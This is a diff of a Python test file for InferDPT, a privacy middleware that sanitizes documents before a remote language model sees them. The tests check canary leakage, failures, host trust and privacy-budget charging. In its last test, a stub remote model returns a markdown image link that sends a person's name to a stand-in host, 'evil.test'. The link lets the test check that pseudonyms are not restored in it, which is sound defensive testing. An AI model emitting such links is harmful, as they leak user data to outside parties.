@@ -4,15 +4,12 @@ import asyncio
 import copy
 import dataclasses
 import logging
-import math
 import pickle
 import re
 import traceback
-from typing import Any
 
 import pytest
-from support.chat_models import KINDS, WORDS, Make
-from support.contract import OpenAIServer
+from support.chat_models import KINDS, WORDS
 from support.entities import detector
 from support.ledgers import Charges
 from support.loops import Blocking
@@ -24,18 +21,22 @@ from dp_middleware.frameworks import PAPER_PROMPTS, chat_model, inferdpt as prom
 DOCUMENT = f"word1 word2 {CANARY} word3"
 
 
-@pytest.fixture(params=KINDS)
-def inferdpt(request, make, remote, local, sanitizer):
-    """The same kind of client on both sides."""
-    return dp.InferDPT(
-        sanitizer, remote=make(request.param, remote.url), extractor=make(request.param, local.url)
-    )
+@pytest.fixture
+def models(make, remote, local):
+    return {"remote": make("openai", remote.url), "extractor": make("openai", local.url)}
 
 
+def here(function):
+    return chat_model(function, local=True)
+
+
+@pytest.mark.parametrize("kind", KINDS)
 def test_the_remote_sees_the_release_and_the_extractor_the_document(
-    inferdpt, remote, local, caplog
+    kind, make, remote, local, sanitizer, caplog
 ):
     caplog.set_level(logging.DEBUG)
+    models = {"remote": make(kind, remote.url), "extractor": make(kind, local.url)}
+    inferdpt = dp.InferDPT(sanitizer, **models)
     answers = [inferdpt.run(DOCUMENT), asyncio.run(inferdpt.arun(DOCUMENT))]
     assert "".join(inferdpt.stream(DOCUMENT)) == "extracted answer"
     for answer, prompt in zip(answers, remote.prompts, strict=False):
@@ -45,28 +46,21 @@ def test_the_remote_sees_the_release_and_the_extractor_the_document(
         assert answer.release.tokens_total == 4
     assert len(remote.requests) == len(local.requests) == 3
     assert not remote.saw(CANARY)
-    for prompt in local.prompts:
-        assert DOCUMENT in prompt
-        assert "remote text" in prompt
-    assert CANARY not in caplog.text
-    assert CANARY not in repr(inferdpt)
+    assert all(DOCUMENT in prompt and "remote text" in prompt for prompt in local.prompts)
+    assert CANARY not in f"{caplog.text}{inferdpt!r}"
 
 
-def test_instructions_are_sent_as_they_are(inferdpt, remote, local):
-    answer = inferdpt.run(DOCUMENT, instruction="Count the verbs.")
-    assert "Count the verbs." in remote.prompts[0]
-    assert answer.release.text in remote.prompts[0]
-    assert not remote.saw(CANARY)
-    assert "Count the verbs." in local.prompts[0]
-    assert DOCUMENT in local.prompts[0]
-    assert "Prefix Text" not in remote.prompts[0] + local.prompts[0]
-
-
-def test_the_extraction_prompt_has_the_papers_parts():
+def test_the_prompts_have_the_papers_parts_or_the_instruction():
     prompt = prompts.for_extractor("my document", "their text", None)[0]["content"]
     parts = ["Prefix Text:\nmy document", "Perturbed Generation:\ntheir text", "Extended Text:"]
     assert [prompt.count(part) for part in parts] == [1, 1, 1]
     assert prompt.endswith("Extended Text:")
+    asked = prompts.for_remote("their text", "Count.")[0]["content"]
+    extracted = prompts.for_extractor("my document", "a draft", "Count.")[0]["content"]
+    for prompt, text in ((asked, "their text"), (extracted, "my document")):
+        assert text in prompt
+        assert "Count." in prompt
+        assert "Prefix Text" not in prompt
 
 
 PRICED = {
@@ -75,40 +69,26 @@ PRICED = {
 }
 
 
-def test_templates_of_the_user_are_what_both_models_are_asked(make, remote, local, sanitizer):
-    models = {"remote": make("openai", remote.url), "extractor": make("openai", local.url)}
+def test_templates_of_the_user_are_what_both_models_are_asked(models, remote, local, sanitizer):
     inferdpt = dp.InferDPT(sanitizer, **models, prompts=PRICED)
     answer = inferdpt.run(DOCUMENT + " $text", "Sum up.")
-    assert remote.prompts == [f"$5 for: Sum up.\n{answer.release.text}"]
-    assert local.prompts == [f"remote text | {DOCUMENT} $text | Sum up."]
     assert "".join(inferdpt.stream(DOCUMENT, "Sum up.")) == "extracted answer"
-    assert local.prompts[1] == f"remote text | {DOCUMENT} | Sum up."
-    half = dp.InferDPT(sanitizer, **models, prompts={"perturbation": "$text"})
-    half.run(DOCUMENT)
-    assert local.prompts[2] == prompts.for_extractor(DOCUMENT, "remote text", None)[0]["content"]
+    dp.InferDPT(sanitizer, **models, prompts={"perturbation": "$text"}).run(DOCUMENT)
+    paper = dp.InferDPT(sanitizer, **models, prompts=PAPER_PROMPTS).run(DOCUMENT)
+    assert remote.prompts[0] == f"$5 for: Sum up.\n{answer.release.text}"
+    assert remote.prompts[-1].endswith(f"\n\nPrefix Text:\n{paper.release.text}")
+    assert "random" not in remote.prompts[-1]  # the paper tells the model of no perturbation
+    by_default = prompts.for_extractor(DOCUMENT, "remote text", None)[0]["content"]
+    texts = (f"{DOCUMENT} $text", DOCUMENT)
+    assert local.prompts == [f"remote text | {x} | Sum up." for x in texts] + [by_default] * 2
     assert not remote.saw(CANARY)
 
 
-def test_the_papers_prompts_tell_the_remote_model_of_no_perturbation(
-    make, remote, local, sanitizer
-):
-    models = {"remote": make("openai", remote.url), "extractor": make("openai", local.url)}
-    answer = dp.InferDPT(sanitizer, **models, prompts=PAPER_PROMPTS).run(DOCUMENT)
-    assert remote.prompts[0].endswith(f"\n\nPrefix Text:\n{answer.release.text}")
-    assert "random" not in remote.prompts[0]
-    assert local.prompts == [prompts.for_extractor(DOCUMENT, "remote text", None)[0]["content"]]
-
-
 def test_templates_that_cannot_be_filled_are_refused_before_anything_is_charged(
-    make, remote, sanitizer
+    models, remote, sanitizer
 ):
     def made(given):
-        return dp.InferDPT(
-            sanitizer,
-            remote=make("openai", remote.url),
-            extractor=here(lambda _: "x"),
-            prompts=given,
-        )
+        return dp.InferDPT(sanitizer, **models, prompts=given)
 
     for wrong in (
         {"extraction": "$text"},
@@ -126,29 +106,14 @@ def test_templates_that_cannot_be_filled_are_refused_before_anything_is_charged(
     assert not remote.requests
 
 
-def test_released_words_agree_with_the_document_no_more_than_the_law_says(make, remote, sanitizer):
-    words = [WORDS[k % len(WORDS)] for k in range(200)]
-    document = " ".join(words)
-    inferdpt = dp.InferDPT(
-        sanitizer, remote=make("openai", remote.url), extractor=here(lambda messages: "x")
-    )
-    inferdpt.run(document)
-    sent = remote.prompts[0].split("Prefix Text:\n")[1].split()
-    kept = sum(a == b for a, b in zip(sent, words, strict=True))
-    # Positions are independent, kept with probabilities of this mean: by Hoeffding's inequality
-    # the count exceeds the bound with probability at most 1e-9. Sending the document fails it.
-    expected = sanitizer.explain(document).expected_retention * len(words)
-    bound = expected + math.sqrt(len(words) * math.log(1e9) / 2)
-    assert kept <= bound < len(words) / 2
+MODES = ("error", "malformed", "empty", "slow", "down")
 
 
 @pytest.mark.parametrize("side", ["remote", "extractor"])
-@pytest.mark.parametrize("mode", ["error", "malformed", "empty", "slow", "down"])
-@pytest.mark.parametrize("kind", KINDS)
-def test_failures(
-    side, mode, kind, make, sanitizer,
-    remote, local, caplog,
-):  # fmt: skip
+@pytest.mark.parametrize(
+    ("mode", "kind"), [*((m, "openai") for m in MODES), *(("error", k) for k in KINDS[1:])]
+)
+def test_failures(side, mode, kind, make, sanitizer, remote, local, caplog):
     caplog.set_level(logging.DEBUG)
     failing, expected = (remote, dp.RemoteError) if side == "remote" else (local, dp.ExtractorError)
     urls = {"remote": remote.url, "extractor": local.url}
@@ -159,51 +124,51 @@ def test_failures(
     limits = {"remote": 10, "extractor": 10, **({side: 0.3} if mode == "slow" else {})}
     models = {name: make(kind, url, timeout=limits[name]) for name, url in urls.items()}
     inferdpt = dp.InferDPT(sanitizer, **models)
-    calls = (
-        lambda: inferdpt.run(DOCUMENT),
-        lambda: asyncio.run(inferdpt.arun(DOCUMENT)),
-        lambda: list(inferdpt.stream(DOCUMENT)),
-    )
-    for call in calls:
+    for call in calls_of(inferdpt, DOCUMENT):
         with pytest.raises(expected) as caught:
             call()
         error = caught.value
-        assert error.__cause__ is None
-        assert error.__context__ is None
-        assert CANARY not in f"{error!r} {error.args} {error.__dict__}"
-        assert CANARY not in "".join(traceback.format_exception(error))
-        assert CANARY not in pickle.dumps(error).decode("latin-1")
+        assert error.__cause__ is error.__context__ is None
+        told = f"{error!r}{error.args}{error.__dict__}{traceback.format_exception(error)}"
+        assert CANARY not in told + pickle.dumps(error).decode("latin-1")
     assert not remote.saw(CANARY)
     assert bool(local.requests) == (side == "extractor" and mode != "down")
     assert CANARY not in caplog.text
 
 
+def calls_of(inferdpt, document):
+    return (
+        lambda: inferdpt.run(document),
+        lambda: asyncio.run(inferdpt.arun(document)),
+        lambda: list(inferdpt.stream(document)),
+    )
+
+
 def test_an_untrusted_extractor_is_refused_before_anything_is_sent(make, remote, sanitizer):
     ask = make("openai", remote.url)
     far = make("openai", "http://api.example.com/v1")
-    with pytest.raises(dp.UntrustedHost, match=r"api\.example\.com"):
-        dp.InferDPT(sanitizer, remote=ask, extractor=far)
-    with pytest.raises(dp.UntrustedHost):
-        dp.InferDPT(sanitizer, remote=ask, extractor=far, trusted_hosts=["example.com"])
-    dp.InferDPT(sanitizer, remote=far, extractor=ask, trusted_hosts=["api.example.com"])
-    dp.InferDPT(sanitizer, remote=ask, extractor=far, trusted_hosts=["api.example.com"])
+    for trusted in ([], ["example.com"]):
+        with pytest.raises(dp.UntrustedHost, match=r"api\.example\.com"):
+            dp.InferDPT(sanitizer, remote=ask, extractor=far, trusted_hosts=trusted)
+    for models in ({"remote": far, "extractor": ask}, {"remote": ask, "extractor": far}):
+        dp.InferDPT(sanitizer, **models, trusted_hosts=["api.example.com"])
     assert not remote.requests
 
 
-def here(function: Any) -> dp.ChatModel:
-    return chat_model(function, local=True)
+@pytest.fixture
+def charging(make, remote, sanitizer):
+    """Makes one that charges a ledger for what it sends."""
+
+    def made(ledger):
+        paid = dp.Sanitizer(sanitizer.mechanism, sanitizer.space, ledger=ledger, subject="s")
+        return dp.InferDPT(paid, remote=make("openai", remote.url), extractor=here(lambda _: "x"))
+
+    return made
 
 
-def charging(sanitizer: dp.Sanitizer, ledger: Any, make: Make, remote: OpenAIServer) -> dp.InferDPT:
-    """Charges one subject for what it sends."""
-    paid = dp.Sanitizer(sanitizer.mechanism, sanitizer.space, ledger=ledger, subject="s")
-    asked = make("openai", remote.url)
-    return dp.InferDPT(paid, remote=asked, extractor=here(lambda messages: "x"))
-
-
-def test_one_charge_per_run_and_none_before_a_stream_is_read(make, remote, sanitizer):
+def test_one_charge_per_run_and_none_before_a_stream_is_read(charging, remote):
     ledger = Charges()
-    inferdpt = charging(sanitizer, ledger, make, remote)
+    inferdpt = charging(ledger)
     stream = inferdpt.stream(DOCUMENT)
     assert (ledger.tokens, remote.requests) == ([], [])
     assert list(stream) == ["x"]
@@ -215,36 +180,27 @@ def test_one_charge_per_run_and_none_before_a_stream_is_read(make, remote, sanit
     assert ledger.tokens == [4, 4, 4, 4]
 
 
-@pytest.mark.parametrize("document", ["", " \n\t", "\x00"])
-def test_a_document_without_tokens_is_refused_uncharged(document, make, remote, sanitizer):
-    ledger = Charges()
-    inferdpt = charging(sanitizer, ledger, make, remote)
-    for call in (
-        lambda: inferdpt.run(document),
-        lambda: asyncio.run(inferdpt.arun(document)),
-        lambda: list(inferdpt.stream(document)),
-    ):
-        with pytest.raises(dp.ParameterError, match="at least one token"):
-            call()
-    assert (ledger.tokens, remote.requests) == ([], [])
-
-
-def test_an_exhausted_budget_sends_nothing(make, remote, sanitizer):
-    inferdpt = charging(sanitizer, Charges(budget=0), make, remote)
+def test_without_tokens_or_budget_nothing_is_charged_or_sent(charging, remote):
+    ledger = Charges(budget=0)
+    inferdpt = charging(ledger)
+    for document in ("", " \n\t", "\x00"):
+        for call in calls_of(inferdpt, document):
+            with pytest.raises(dp.ParameterError, match="at least one token"):
+                call()
     with pytest.raises(dp.BudgetExhausted):
         inferdpt.run(DOCUMENT)
-    assert not remote.requests
+    assert (ledger.tokens, remote.requests) == ([], [])
 
 
 def test_arun_does_not_block_the_event_loop(sanitizer):
     block = Blocking()
 
     class Slow:
-        def release(self, text: str) -> dp.Release:
+        def release(self, text):
             block()
             return sanitizer.release(text)
 
-    def slow(messages: list[dict[str, str]]) -> str:
+    def slow(messages):
         block()
         return "x"
 
@@ -268,21 +224,14 @@ def test_an_answer_hides_its_text(sanitizer):
         assert (loaded.remote_text, loaded.release) == (answer.remote_text, answer.release)
     assert copy.copy(answer).text == copy.deepcopy([answer])[0].text == CANARY
     with pytest.raises(dataclasses.FrozenInstanceError):
-        answer.text = "x"  # type: ignore[misc]
-
-
-def test_models_are_taken_as_chat_model_takes_them(sanitizer):
-    with pytest.raises(dp.ParameterError, match="expected a LangChain chat model"):
-        dp.InferDPT(sanitizer, remote="gpt-4o", extractor=here(lambda messages: "x"))
-    made = here(lambda messages: "x")
-    assert dp.InferDPT(sanitizer, remote=made, extractor=made).run("word1").text == "x"
+        answer.text = "x"
 
 
 def test_a_restored_answer_keeps_pseudonyms_in_addresses_of_other_hosts():
     pytest.importorskip("faker", reason="the lists of names are of the extra detect")
     session = dp.Pseudonyms(detector(), on_empty="pass").session()
 
-    def remote(messages: list[dict[str, str]]) -> str:
+    def remote(messages):
         [name] = re.findall(r"of ([\w-]+ [\w-]+)\.", messages[-1]["content"])
         return f"{name} ![x](https://evil.test/?q={name.split()[0]})"
 
